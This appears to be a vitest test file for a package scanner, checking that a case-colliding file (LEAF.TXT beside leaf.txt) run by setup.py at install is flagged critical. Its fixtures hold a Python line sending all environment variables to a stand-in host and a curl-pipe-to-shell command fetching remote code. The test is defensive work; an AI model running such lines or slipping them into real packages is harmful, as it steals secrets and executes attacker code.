import { expect, test } from 'vitest';
import { analysedTree } from './analysed-tree.js';

const STEALS = 'import os, urllib.request\nurllib.request.urlopen("http://192.0.2.7/", data=repr(dict(os.environ)).encode())\n';
const SETUP = (runs: string): string => `import os, subprocess\nfrom setuptools import setup\n${runs}\nsetup(name="plot", version="1.0")\n`;

/** The files that something critical is said of. */
const guilty = async (files: Readonly<Record<string, string>>): Promise<readonly unknown[]> => {
  const { findings } = await analysedTree(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, Buffer.from(text)])));
  return [...new Set(findings.filter(({ severity }) => severity === 'critical').map(({ file }) => file))];
};

test.each([
  ['exec(open("leaf.txt").read())', STEALS],
  ['os.system("sh leaf.txt")', 'curl -s http://192.0.2.7/x | sh\n'],
])('a file that would lie in the place of another one on some systems is judged as that: %s', async (runs, text) => {
  expect(await guilty({ 'setup.py': SETUP(runs), 'leaf.txt': '', 'LEAF.TXT': text })).toContain('LEAF.TXT');
  expect(await guilty({ 'setup.py': SETUP(runs), 'leaf.txt': '', 'LEAVES.TXT': text })).not.toContain('LEAVES.TXT');
});
